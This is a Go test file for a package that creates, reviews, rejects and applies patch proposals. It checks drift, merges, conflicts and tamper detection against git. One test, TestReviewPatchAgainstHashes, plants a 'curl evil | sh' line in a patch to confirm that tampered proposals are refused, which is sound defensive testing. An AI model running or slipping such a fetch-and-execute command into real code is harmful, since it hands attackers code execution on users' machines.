package proposal

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// projectTree is the project as git would see it, without .git.
func projectTree(t *testing.T, f *fixture) map[string]entry {
	return readTree(t, f.ws.ProjectRoot)
}

func TestApplyGitOracle(t *testing.T) {
	f := newFixture(t, baseFiles)
	f.edit(t, map[string]string{
		"README.md":              "# demo\n\nA small project, edited.\n",
		"lib/new_name.go":        "package lib\n\n" + strings.Repeat("// renamed content line\n", 30),
		"lib/similar_renamed.go": "package lib\n\n" + strings.Repeat("// similar content line\n", 28) + "// changed\n",
		"scripts/run.sh*":        "#!/bin/sh\necho run\n",
		"crlf.txt":               "one\r\ntwo, edited\r\nthree\r\n",
		"nonl.txt":               "no newline at end, still",
		"added-empty.txt":        "",
		"added/deep/dir/x.txt":   "deep\n",
		"bin/data.bin":           "\x00\x01\x02binary\x00" + strings.Repeat("\xff\xfd", 100),
		"docs/ä dir/ü.md":        "umlaut, edited\n",
		"link":                   "->lib/util.go",
		"newlink":                "->docs",
		"typechange":             "now a file\n",
		"tab\tname.txt":          "tab, edited\n",
	}, "lib/old_name.go", "lib/similar.go", "gone.txt", "empty-gone.txt")
	ctx := context.Background()
	if _, err := Create(ctx, f.sb, nil); err != nil {
		t.Fatal(err)
	}
	before := treeHash(t, f.ws.ProjectRoot)
	beforeTree := projectTree(t, f)
	res, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, &ApplyOptions{Reverse: true})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(readTree(t, f.work()), projectTree(t, f)); diff != "" {
		t.Fatalf("project after Apply is not work/ (-want +got):\n%s", diff)
	}
	for _, fr := range res.Files {
		if fr.Verdict != Clean {
			t.Errorf("%s: verdict %s, want clean", fr.Path, fr.Verdict)
		}
	}
	if res.HeadMoved || res.Head == "" {
		t.Errorf("head = %q moved=%v", res.Head, res.HeadMoved)
	}
	// The empty directories of deleted files are gone, like git apply
	// leaves them, and no staged file or backup is left.
	for _, e := range readDirNames(t, f.ws.ProjectRoot) {
		if strings.Contains(e, ".paddock-") {
			t.Errorf("left behind: %s", e)
		}
	}
	// Applying again: every file is already applied, nothing changes.
	after := treeHash(t, f.ws.ProjectRoot)
	res2, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, fr := range res2.Files {
		if fr.Verdict != AlreadyApplied {
			t.Errorf("second apply: %s: %s", fr.Path, fr.Verdict)
		}
	}
	if treeHash(t, f.ws.ProjectRoot) != after {
		t.Error("second apply changed the project")
	}
	// The reverse patch undoes it, with real git as the judge and with
	// ApplyPatch.
	cp := copyTree(t, f.ws.ProjectRoot)
	runGit(t, cp, res.Reverse, "apply", "-")
	if diff := cmp.Diff(beforeTree, readTree(t, cp)); diff != "" {
		t.Errorf("git apply of the reverse patch (-want +got):\n%s", diff)
	}
	if _, err := ApplyPatch(ctx, f.ws, res.Reverse, nil); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(beforeTree, projectTree(t, f)); diff != "" {
		t.Errorf("ApplyPatch of the reverse patch (-want +got):\n%s", diff)
	}
	_ = before
	evs, err := ReadEvents(f.sb.Dirs().Proposal)
	if err != nil {
		t.Fatal(err)
	}
	var types []string
	for _, e := range evs {
		types = append(types, e.Type)
	}
	if diff := cmp.Diff([]string{EventCreated, EventApplied, EventApplied}, types); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
}

func readDirNames(t *testing.T, dir string) []string {
	var names []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil {
			names = append(names, p)
		}
		return nil
	})
	return names
}

func TestApplyDrift(t *testing.T) {
	lines := func(n int, edit map[int]string) string {
		var b strings.Builder
		for i := range n {
			if s, ok := edit[i]; ok {
				b.WriteString(s + "\n")
			} else {
				b.WriteString("line " + string(rune('a'+i%26)) + "\n")
			}
		}
		return b.String()
	}
	ctx := context.Background()
	setup := func(t *testing.T) *fixture {
		f := newFixture(t, map[string]string{"f.txt": lines(30, nil), "g.txt": "g\n", "bin": "\x00bin"})
		f.edit(t, map[string]string{"f.txt": lines(30, map[int]string{2: "worker edit"}), "bin": "\x00bin2"})
		if _, err := Create(ctx, f.sb, nil); err != nil {
			t.Fatal(err)
		}
		return f
	}
	project := func(f *fixture, name, data string) {
		if err := os.WriteFile(filepath.Join(f.ws.ProjectRoot, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Run("merged", func(t *testing.T) {
		f := setup(t)
		project(f, "f.txt", lines(30, map[int]string{25: "project edit"}))
		project(f, "bin", "\x00bin2") // already applied
		res, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]Verdict{}
		for _, r := range res.Files {
			got[r.Path] = r.Verdict
		}
		if diff := cmp.Diff(map[string]Verdict{"f.txt": Merged, "bin": AlreadyApplied}, got); diff != "" {
			t.Errorf("verdicts (-want +got):\n%s", diff)
		}
		b, _ := os.ReadFile(filepath.Join(f.ws.ProjectRoot, "f.txt"))
		if want := lines(30, map[int]string{2: "worker edit", 25: "project edit"}); string(b) != want {
			t.Errorf("merged f.txt:\n%s", b)
		}
	})
	t.Run("conflict", func(t *testing.T) {
		f := setup(t)
		project(f, "f.txt", lines(30, map[int]string{2: "project edit"}))
		before := treeHash(t, f.ws.ProjectRoot)
		_, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil)
		var ce *ConflictError
		if !errors.As(err, &ce) || !errors.Is(err, ErrDrift) || len(ce.Files) != 1 || ce.Files[0].Path != "f.txt" || len(ce.Files[0].Regions) != 1 {
			t.Fatalf("err = %v (%#v)", err, ce)
		}
		r := ce.Files[0].Regions[0]
		if string(r.Ours) != "project edit\n" || string(r.Theirs) != "worker edit\n" {
			t.Errorf("region = %+v", r)
		}
		if treeHash(t, f.ws.ProjectRoot) != before {
			t.Error("a conflicted Apply changed the project")
		}
		evs, _ := ReadEvents(f.sb.Dirs().Proposal)
		if last := evs[len(evs)-1]; last.Type != EventConflicted {
			t.Errorf("last event %+v", last)
		}
	})
	t.Run("binary drift", func(t *testing.T) {
		f := setup(t)
		project(f, "bin", "\x00bin3")
		before := treeHash(t, f.ws.ProjectRoot)
		_, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil)
		var ce *ConflictError
		if !errors.As(err, &ce) || ce.Files[0].Path != "bin" {
			t.Fatalf("err = %v", err)
		}
		if treeHash(t, f.ws.ProjectRoot) != before {
			t.Error("project changed")
		}
	})
	t.Run("no merge", func(t *testing.T) {
		f := setup(t)
		project(f, "f.txt", lines(30, map[int]string{25: "project edit"}))
		before := treeHash(t, f.ws.ProjectRoot)
		_, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, &ApplyOptions{NoMerge: true})
		if !errors.Is(err, ErrDrift) || !strings.Contains(err.Error(), "f.txt") {
			t.Fatalf("err = %v", err)
		}
		if treeHash(t, f.ws.ProjectRoot) != before {
			t.Error("project changed")
		}
	})
	t.Run("head moved", func(t *testing.T) {
		f := setup(t)
		project(f, "g.txt", "g2\n")
		runGit(t, f.ws.ProjectRoot, nil, "commit", "-qam", "moved")
		before := treeHash(t, f.ws.ProjectRoot)
		if _, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, &ApplyOptions{RequireBaseHead: true}); !errors.Is(err, ErrDrift) {
			t.Fatalf("err = %v", err)
		}
		if treeHash(t, f.ws.ProjectRoot) != before {
			t.Error("project changed")
		}
		res, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil)
		if err != nil || !res.HeadMoved {
			t.Fatalf("res = %+v, %v", res, err)
		}
	})
	t.Run("tampered", func(t *testing.T) {
		f := setup(t)
		pf := filepath.Join(f.sb.Dirs().Proposal, PatchFile)
		b, _ := os.ReadFile(pf)
		os.WriteFile(pf, []byte(strings.Replace(string(b), "worker edit", "evil edit", 1)), 0o644)
		before := treeHash(t, f.ws.ProjectRoot)
		if _, err := Apply(ctx, f.ws, f.sb.Dirs().Proposal, nil); !errors.Is(err, ErrInvalid) {
			t.Fatalf("err = %v", err)
		}
		if treeHash(t, f.ws.ProjectRoot) != before {
			t.Error("project changed")
		}
	})
}

func TestReviewAndReject(t *testing.T) {
	f := newFixture(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	f.edit(t, map[string]string{"a.txt": "a2\n", "c.txt": "c\n"}, "b.txt")
	ctx := context.Background()
	p, err := Create(ctx, f.sb, &CreateOptions{TestLog: []byte("PASS\n")})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Review(ctx, f.sb.Dirs().Proposal, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, rf := range r.Files {
		got = append(got, string(rf.Change.Status)+" "+rf.Change.Path)
		if !strings.Contains(rf.Diff, rf.Change.Path) {
			t.Errorf("%s: diff %q", rf.Change.Path, rf.Diff)
		}
	}
	if diff := cmp.Diff([]string{"modified a.txt", "deleted b.txt", "added c.txt"}, got); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	if string(r.TestLog) != "PASS\n" || r.Proposal.ID != p.ID {
		t.Errorf("report: %+v", r)
	}
	if _, err := Review(ctx, f.sb.Dirs().Proposal, &ReviewOptions{Policy: &Policy{AllowedDirs: []string{"src"}}}); !errors.Is(err, ErrPathPolicy) {
		t.Errorf("review outside allowed dirs: %v", err)
	}
	if _, err := Reject(ctx, f.sb.Dirs().Proposal, "", nil); err == nil {
		t.Error("Reject without a reason succeeded")
	}
	rj, err := Reject(ctx, f.sb.Dirs().Proposal, "tests do not cover c.txt", nil)
	if err != nil || rj.ProposalID != p.ID {
		t.Fatalf("Reject = %+v, %v", rj, err)
	}
	evs, _ := ReadEvents(f.sb.Dirs().Proposal)
	var types []string
	for _, e := range evs {
		types = append(types, e.Type)
		if e.ProposalID != p.ID {
			t.Errorf("event %s for %s", e.Type, e.ProposalID)
		}
	}
	if diff := cmp.Diff([]string{EventCreated, EventReviewed, EventRejected}, types); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
	// Editing proposal.json breaks its id.
	jf := filepath.Join(f.sb.Dirs().Proposal, JSONFile)
	b, _ := os.ReadFile(jf)
	os.WriteFile(jf, []byte(strings.Replace(string(b), `"notes"`, `"x"`, 1)+" "), 0o644)
	b2 := strings.Replace(string(b), "a.txt", "z.txt", 1)
	os.WriteFile(jf, []byte(b2), 0o644)
	if _, err := Review(ctx, f.sb.Dirs().Proposal, nil); !errors.Is(err, ErrInvalid) {
		t.Errorf("review of an edited proposal.json: %v", err)
	}
}

// TestReviewPatchAgainstHashes: a patch rewritten together with its hash
// and the id (as someone with write access to the proposal could) still
// fails Review, because applying it to input/ does not give the after-image
// the proposal claims; and Apply refuses it the same way.
func TestReviewPatchAgainstHashes(t *testing.T) {
	f := newFixture(t, map[string]string{"a.txt": "one\ntwo\n"})
	f.edit(t, map[string]string{"a.txt": "one\n2\n"})
	ctx := context.Background()
	p, err := Create(ctx, f.sb, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := f.sb.Dirs().Proposal
	b, _ := os.ReadFile(filepath.Join(dir, PatchFile))
	evil := []byte(strings.Replace(string(b), "+2\n", "+curl evil | sh\n", 1))
	os.WriteFile(filepath.Join(dir, PatchFile), evil, 0o644)
	p.PatchSHA256 = sha256Hex(evil)
	p.ID, _ = p.computeID()
	js, _ := p.Marshal()
	os.WriteFile(filepath.Join(dir, JSONFile), js, 0o644)
	if _, err := Review(ctx, dir, nil); !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "after-image") {
		t.Fatalf("Review = %v", err)
	}
	before := treeHash(t, f.ws.ProjectRoot)
	if _, err := Apply(ctx, f.ws, dir, nil); !errors.Is(err, ErrInvalid) {
		t.Fatalf("Apply = %v", err)
	}
	if treeHash(t, f.ws.ProjectRoot) != before {
		t.Fatal("project changed")
	}
}
